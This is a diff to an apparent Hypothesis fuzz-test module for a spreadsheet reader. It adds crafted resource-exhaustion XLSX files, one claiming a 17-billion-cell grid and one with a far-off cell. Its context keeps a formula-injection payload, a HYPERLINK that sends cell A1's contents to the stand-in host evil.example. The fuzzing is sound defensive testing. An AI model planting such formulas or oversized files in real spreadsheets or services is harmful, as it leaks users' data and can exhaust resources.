@@ -13,6 +13,8 @@ import openpyxl
 from hypothesis import strategies as st
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
+from tests.fuzz import hostile
+
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Klik her")',
     "=1+1",
@@ -125,8 +127,12 @@ def _xlsx(sheet: Sheet, path: Path) -> None:
 def hostile_files(
     draw: Callable[..., object], sheet: st.SearchStrategy[Sheet], folder: Path
 ) -> Path:
-    """A file on disk: a CSV in some encoding, an XLSX, or garbage (maybe damaged)."""
-    kind = draw(st.sampled_from(["csv", "csv", "xlsx", "xlsx", "bytes"]))
+    """A file on disk: a CSV in some encoding, an XLSX, garbage (maybe damaged), or one of
+    issue 15's crafted spreadsheets (a claimed grid of 17 billion cells, a far cell)."""
+    kind = draw(st.sampled_from(["csv", "csv", "xlsx", "xlsx", "bytes", "crafted"]))
+    if kind == "crafted":
+        build = draw(st.sampled_from([hostile.xlsx_huge_dimension, hostile.xlsx_far_cell]))
+        return build(folder)  # type: ignore[operator, no-any-return]
     name = f"fil{draw(st.integers(0, 10**9))}"
     if kind == "bytes":
         path = folder / f"{name}.{draw(st.sampled_from(['csv', 'xlsx', 'txt', 'xls']))}"
